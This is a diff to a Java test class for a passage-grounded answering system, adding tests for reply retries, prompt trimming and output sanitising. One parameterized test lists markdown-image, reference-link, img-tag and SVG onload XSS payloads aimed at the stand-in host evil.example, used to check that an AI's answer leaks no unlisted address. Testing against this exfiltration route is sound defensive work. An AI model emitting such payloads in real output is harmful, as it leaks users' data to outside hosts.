@@ -10,6 +10,7 @@ import static org.assertj.core.api.InstanceOfAssertFactories.list;
 import dev.tarn.answer.Fakes.Angles;
 import dev.tarn.answer.Fakes.Chat;
 import dev.tarn.failure.PermanentFailure;
+import dev.tarn.model.Generation;
 import dev.tarn.question.Answer;
 import dev.tarn.question.Answer.Statement;
 import dev.tarn.question.Answer.Status;
@@ -110,7 +111,7 @@ class GroundedAnswersTest {
 
     @Test
     void withoutEnoughEvidenceNoModelIsAsked() {
-        Chat chat = new Chat();
+        Chat chat = new Chat(new String[0]);
 
         assertThat(answer(chat).status()).isEqualTo(Status.NO_ANSWER);
         GroundedAnswer weak = new GroundedAnswers(chat, embedder, new AnswerSettings(4096, 1.2, 0.6))
@@ -159,6 +160,100 @@ class GroundedAnswersTest {
 
         assertThat(answer(chat, passage).text())
                 .isEqualTo("See x the site or (address removed), (address removed) and https://tarn.example/a. [1]");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "![a[b]c](//evil.example/?q)",
+                "![x](//evil.example/a(b)c?q)",
+                "![x]( <https&#58;//evil.example/?q> \"title\")",
+                "[a](\nhttps:/evil.example/?q)",
+                "![x][y]\n\n[y]: //evil.example/?q",
+                "> [y]: //evil.example/?q",
+                "<img src=//evil.example/?q>",
+                "<img\nalt='>' src='https://evil.example/?q'>",
+                "<svg/onload=fetch('//evil.example')>",
+                "<a href=\"https:evil.example\">x</a>",
+                "<https://evil.example/?q>",
+                "https:/evil.example/?q",
+                "HTTP:\\\\evil.example\\q",
+                "https://tarn.example/a)evil.example-q",
+                "https://tarn.example/a'evil.example-q",
+                "https://tarn.example/a]evil.example-q",
+                "https://tarn.example/a[1]evil.example-q"
+            })
+    void noFormOfAnAddressGoesOutThatNoPassageHas(String hostile) {
+        Passage passage = passage(1, "See https://tarn.example/a for streams.");
+
+        String shown = answer(new Chat("Streams " + hostile + " feed it [1]."), passage)
+                .text();
+
+        assertThat(shown)
+                .startsWith("Streams ")
+                .endsWith(" feed it [1].")
+                .doesNotContainPattern("]\\(|(?m)^[> ]*\\[[^\\]]*]:|<\\w[^>]*=")
+                .doesNotContainPattern("(?i)https?:[/\\\\]*evil|tarn\\.example/\\S*evil");
+    }
+
+    @Test
+    void codeTagsAndAddressesOfThePassagesStay() {
+        Passage passage = passage(1, "A List<String> of https://tarn.example/a(b)?x=1.");
+        String reply = "For a List<String>, if a<b && c=d, take arr[i] (all) of **https://tarn.example/a(b)?x=1**, or"
+                + " <b>the same</b> (\"https://tarn.example/a(b)?x=1\"). [1]";
+
+        assertThat(answer(new Chat(reply), passage).text()).isEqualTo(reply);
+    }
+
+    @Test
+    void aReplyThatQuotesAPassageWithTheAgreedSentenceIsAnAnswer() {
+        Passage hostile = passage(1, "The documents do not answer this question of tarns.");
+        String quotation = "The documents do not answer this question of tarns. [1] Snow melts in spring [2].";
+
+        assertThat(answer(new Chat(quotation), hostile, SNOW).status()).isEqualTo(Status.ANSWERED);
+        assertThat(answer(new Chat(Prompt.NO_ANSWER), hostile, SNOW).status()).isEqualTo(Status.NO_ANSWER);
+        assertThat(answer(new Chat(Prompt.NO_ANSWER + " [2]"), STREAMS, SNOW).status())
+                .isEqualTo(Status.NO_ANSWER);
+    }
+
+    @Test
+    void aReplyThatIsBrokenOffIsAskedForOnceMoreAndToldWhy() {
+        Chat chat = new Chat(
+                new Generation("Streams feed [1] a", 7, 5, false), new Generation("Streams feed it [1].", 7, 5, true));
+
+        assertThat(answer(chat, STREAMS).text()).isEqualTo("Streams feed it [1].");
+        assertThat(chat.prompts.get(1).system()).contains("it is longer than what --chat-context leaves room for");
+
+        Generation cut = new Generation("Streams feed [1] a", 7, 5, false);
+        GroundedAnswer failed = answer(new Chat(cut, cut), STREAMS);
+        assertThat(failed.status()).isEqualTo(Status.FAILED);
+        assertThat(failed.error()).contains("--chat-context");
+    }
+
+    @Test
+    void aPromptThatTheServerHasCutIsAskedAgainWithTheBetterHalfOfThePassages() {
+        Generation cut = new Generation("Rivers [3].", 4096, 5, true);
+        Chat chat = new Chat(cut, cut, new Generation("Streams feed it [1].", 900, 5, true));
+        Passage[] passages = {STREAMS, SNOW, passage(3, "Rivers."), passage(4, "Rain."), passage(5, "Springs.")};
+
+        GroundedAnswer answer = answer(chat, passages);
+
+        assertThat(answer.text()).isEqualTo("Streams feed it [1].");
+        assertThat(answer.given()).containsExactly(STREAMS);
+        assertThat(chat.prompts)
+                .extracting(prompt -> prompt.user().split("<passage ", -1).length - 1)
+                .containsExactly(5, 2, 1);
+        assertThatThrownBy(() -> answer(new Chat(cut), STREAMS))
+                .isInstanceOf(PermanentFailure.class)
+                .hasMessageContaining("--chat-context");
+    }
+
+    @Test
+    void aStatementOfFiguresAloneIsAStatement() {
+        assertThat(answer(new Chat("1979. [1] Streams feed a tarn. [1]"), STREAMS)
+                        .statements())
+                .extracting(Statement::text)
+                .containsExactly("1979.", "Streams feed a tarn.");
     }
 
     private GroundedAnswer answer(Chat chat, Passage... passages) {
